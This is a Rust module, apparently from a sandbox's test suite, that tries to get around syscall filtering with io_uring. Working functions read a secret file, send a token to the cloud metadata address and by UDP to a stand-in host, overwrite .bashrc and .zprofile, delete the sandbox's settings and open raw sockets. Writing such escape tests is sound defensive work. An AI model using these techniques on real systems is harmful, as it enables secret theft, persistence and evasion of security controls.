//! Everything that can be ordered by io_uring instead of called.

use std::fs;
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::path::Path;

use super::sockets::{self, Address};
use super::{Deed, Harm, Impossible, if_there};
use crate::Failure;
use crate::kernel::{c_path, owned, syscall};
use crate::stage::{SETTINGS, Stage};
use crate::uring::{Order, Ring, SETUP_SQPOLL};

// include/uapi/linux/io_uring.h
const OP_SENDMSG: u8 = 9;
const OP_CONNECT: u8 = 16;
const OP_OPENAT: u8 = 18;
const OP_READ: u8 = 22;
const OP_SEND: u8 = 26;
const OP_OPENAT2: u8 = 28;
const OP_RENAMEAT: u8 = 35;
const OP_UNLINKAT: u8 = 36;
const OP_SYMLINKAT: u8 = 38;
const OP_LINKAT: u8 = 39;
const OP_SETXATTR: u8 = 42;
const OP_SOCKET: u8 = 45;
const FIXED_FILE: u8 = 1;
const ASYNC: u8 = 16;
const REGISTER_FILES: u32 = 2;
const REGISTER_PERSONALITY: u32 = 9;

const OLD: &str = "a kernel whose io_uring cannot do this yet";

pub(super) const DEEDS: &[Deed] = &[
    Deed::new(
        "io-uring-open",
        &["6.1", "2.11 io_uring"],
        "io_uring OPENAT and READ of a secret",
        Harm::Leak,
        open,
    ),
    Deed::new("io-uring-open-user", &["6.1", "2.11 io_uring"], "the same, not as root", Harm::Leak, open)
        .ordinary(),
    Deed::new("io-uring-openat2", &["6.1"], "io_uring OPENAT2 of a secret", Harm::Leak, openat2),
    Deed::new(
        "io-uring-worker",
        &["6.1"],
        "io_uring OPENAT by a worker thread (IOSQE_ASYNC)",
        Harm::Leak,
        worker,
    ),
    Deed::new(
        "io-uring-direct",
        &["6.1"],
        "io_uring OPENAT into a registered slot: no descriptor at all",
        Harm::Leak,
        direct,
    )
    .unless(OLD),
    Deed::new(
        "io-uring-sqpoll",
        &["6.2"],
        "io_uring OPENAT by the kernel's own thread (SQPOLL)",
        Harm::Leak,
        sqpoll,
    )
    .unless(OLD),
    Deed::new(
        "io-uring-personality",
        &["6.3"],
        "io_uring OPENAT with registered credentials, after setuid",
        Harm::Leak,
        personality,
    ),
    Deed::new(
        "io-uring-connect",
        &["6.1", "2.11 io_uring"],
        "io_uring CONNECT to the metadata service",
        Harm::Contact("metadata"),
        connect,
    ),
    Deed::new(
        "io-uring-send",
        &["6.1", "2.11 io_uring"],
        "io_uring SENDMSG of a datagram, unconnected",
        Harm::Contact("abroad-udp"),
        send,
    ),
    Deed::new("io-uring-socket", &["6.1", "6.6"], "io_uring SOCKET: a raw one", Harm::Done, socket)
        .unless(OLD),
    Deed::new(
        "io-uring-rename",
        &["6.1", "6.40"],
        "io_uring RENAMEAT onto a startup file",
        Harm::Written(".bashrc"),
        rename,
    )
    .unless(OLD),
    Deed::new(
        "io-uring-unlink",
        &["6.1", "6.38"],
        "io_uring UNLINKAT of pkgwarden's settings",
        Harm::Changed(SETTINGS),
        unlink,
    )
    .unless(OLD),
    Deed::new(
        "io-uring-link",
        &["6.1", "6.24"],
        "io_uring LINKAT of a secret, then open the link",
        Harm::Leak,
        link,
    )
    .unless(OLD),
    Deed::new(
        "io-uring-symlink",
        &["6.1", "6.40"],
        "io_uring SYMLINKAT in the place of a startup file",
        Harm::Written(".zprofile"),
        symlink,
    )
    .unless(OLD),
    Deed::new(
        "io-uring-setxattr",
        &["6.1", "6.40"],
        "io_uring SETXATTR on a startup file",
        Harm::Attribute(".bashrc"),
        setxattr,
    )
    .unless(OLD),
];

/// An order a kernel does not know.
fn known<T>(result: io::Result<T>) -> Result<T, Failure> {
    result.map_err(|why| match why.raw_os_error() {
        Some(libc::EINVAL | libc::ENOSYS | libc::EBADF | libc::EOPNOTSUPP) => {
            Impossible(format!("the order is not taken: {why}")).into()
        }
        _ => why.into(),
    })
}

fn new(flags: u32) -> Result<Ring, Failure> {
    if_there("io_uring_setup", Ring::new(flags))
}

fn open_with(stage: &Stage, ring: &mut Ring, order: Order) -> Result<(), Failure> {
    let path = c_path(&stage.secret)?;
    let fd = known(ring.carry_out(Order {
        opcode: OP_OPENAT,
        fd: libc::AT_FDCWD,
        address: path.as_ptr() as u64,
        ..order
    }))?;
    Ok(stage.take(&ring.read(fd)?)?)
}

fn open(stage: &Stage) -> Result<(), Failure> {
    open_with(stage, &mut new(0)?, Order::default())
}

fn openat2(stage: &Stage) -> Result<(), Failure> {
    let mut ring = new(0)?;
    let path = c_path(&stage.secret)?;
    // Flags, mode, resolve: all zero is opening for reading.
    let how = [0_u64; 3];
    let fd = known(ring.carry_out(Order {
        opcode: OP_OPENAT2,
        fd: libc::AT_FDCWD,
        address: path.as_ptr() as u64,
        length: 24,
        offset: how.as_ptr() as u64,
        ..Order::default()
    }))?;
    Ok(stage.take(&ring.read(fd)?)?)
}

fn worker(stage: &Stage) -> Result<(), Failure> {
    open_with(stage, &mut new(0)?, Order { flags: ASYNC, ..Order::default() })
}

fn sqpoll(stage: &Stage) -> Result<(), Failure> {
    open_with(stage, &mut new(SETUP_SQPOLL)?, Order::default())
}

fn direct(stage: &Stage) -> Result<(), Failure> {
    let mut ring = new(0)?;
    let (slots, path) = ([-1_i32], c_path(&stage.secret)?);
    // SAFETY: an array of one descriptor, as its length says.
    unsafe { syscall!(libc::SYS_io_uring_register, ring.fd(), REGISTER_FILES, slots.as_ptr(), 1) }?;
    known(ring.carry_out(Order {
        opcode: OP_OPENAT,
        fd: libc::AT_FDCWD,
        address: path.as_ptr() as u64,
        slot: 1,
        ..Order::default()
    }))?;
    let mut bytes = vec![0_u8; 4096];
    let address = bytes.as_mut_ptr() as u64;
    let order =
        Order { opcode: OP_READ, flags: FIXED_FILE, fd: 0, address, length: 4096, ..Order::default() };
    // A kernel that ignores the slot gave a plain descriptor, and this fails.
    let count = known(ring.carry_out(order))?;
    Ok(stage.take(&bytes[..usize::try_from(count)?])?)
}

fn personality(stage: &Stage) -> Result<(), Failure> {
    let mut ring = new(0)?;
    let none = std::ptr::null::<u8>();
    // SAFETY: the call takes no pointer but a null one.
    let id = unsafe { syscall!(libc::SYS_io_uring_register, ring.fd(), REGISTER_PERSONALITY, none, 0) };
    let personality = u16::try_from(known(id)?)?;
    let mut loot = stage.open_loot()?;
    super::become_ordinary()?;
    if fs::File::open(&stage.secret).is_ok() {
        return Err("the secret is everybody's".into());
    }
    let path = c_path(&stage.secret)?;
    let (fd, address) = (libc::AT_FDCWD, path.as_ptr() as u64);
    let fd =
        known(ring.carry_out(Order { opcode: OP_OPENAT, fd, address, personality, ..Order::default() }))?;
    Ok(loot.write_all(&ring.read(fd)?)?)
}

fn connect(stage: &Stage) -> Result<(), Failure> {
    let mut ring = new(0)?;
    let socket = sockets::stream(libc::AF_INET, 0)?;
    let to = Address::of("169.254.169.254:80")?;
    let (address, offset) = (to.pointer() as u64, u64::from(to.length()));
    let fd = socket.as_raw_fd();
    known(ring.carry_out(Order { opcode: OP_CONNECT, fd, address, offset, ..Order::default() }))?;
    let (address, length) = (stage.token.as_ptr() as u64, u32::try_from(stage.token.len())?);
    ring.carry_out(Order { opcode: OP_SEND, fd, address, length, ..Order::default() })?;
    Ok(())
}

fn send(stage: &Stage) -> Result<(), Failure> {
    let mut ring = new(0)?;
    let socket = sockets::datagram(libc::AF_INET)?;
    let to = Address::of("203.0.113.7:8000")?;
    let mut part = sockets::part(stage.token.as_bytes());
    let message = sockets::message(&to, &mut part);
    let (fd, address) = (socket.as_raw_fd(), (&raw const message) as u64);
    known(ring.carry_out(Order { opcode: OP_SENDMSG, fd, address, length: 1, ..Order::default() }))?;
    Ok(())
}

fn socket(stage: &Stage) -> Result<(), Failure> {
    let mut ring = new(0)?;
    let (fd, offset, length) = (libc::AF_INET, libc::SOCK_RAW as u64, libc::IPPROTO_UDP as u32);
    let fd = known(ring.carry_out(Order { opcode: OP_SOCKET, fd, offset, length, ..Order::default() }))?;
    drop(owned(fd.into())?);
    Ok(stage.done()?)
}

fn two_names(opcode: u8, from: &Path, to: &Path) -> Result<(), Failure> {
    let mut ring = new(0)?;
    let (from, to) = (c_path(from)?, c_path(to)?);
    let (address, offset) = (from.as_ptr() as u64, to.as_ptr() as u64);
    let here = libc::AT_FDCWD;
    let order = Order { opcode, fd: here, address, offset, length: here.cast_unsigned(), ..Order::default() };
    known(ring.carry_out(order)).map(drop)
}

fn rename(stage: &Stage) -> Result<(), Failure> {
    let from = stage.in_project("new");
    fs::write(&from, &stage.token)?;
    two_names(OP_RENAMEAT, &from, &stage.in_home(".bashrc"))
}

fn link(stage: &Stage) -> Result<(), Failure> {
    let twin = stage.in_project("twin");
    two_names(OP_LINKAT, &stage.secret, &twin)?;
    Ok(stage.take(&fs::read(twin)?)?)
}

fn unlink(stage: &Stage) -> Result<(), Failure> {
    let path = c_path(stage.in_home(SETTINGS))?;
    let (fd, address) = (libc::AT_FDCWD, path.as_ptr() as u64);
    known(new(0)?.carry_out(Order { opcode: OP_UNLINKAT, fd, address, ..Order::default() })).map(drop)
}

fn symlink(stage: &Stage) -> Result<(), Failure> {
    let (target, name) = (stage.in_project("code"), stage.in_home(".zprofile"));
    fs::write(&target, &stage.token)?;
    let (target, name) = (c_path(target)?, c_path(name)?);
    let (address, offset) = (target.as_ptr() as u64, name.as_ptr() as u64);
    let order = Order { opcode: OP_SYMLINKAT, fd: libc::AT_FDCWD, address, offset, ..Order::default() };
    known(new(0)?.carry_out(order)).map(drop)
}

fn setxattr(stage: &Stage) -> Result<(), Failure> {
    let path = c_path(stage.in_home(".bashrc"))?;
    let (name, value) = (c"trusted.deed", stage.token.as_bytes());
    let order = Order {
        opcode: OP_SETXATTR,
        address: name.as_ptr() as u64,
        offset: value.as_ptr() as u64,
        length: u32::try_from(value.len())?,
        rest: [path.as_ptr() as u64, 0],
        ..Order::default()
    };
    known(new(0)?.carry_out(order)).map(drop)
}
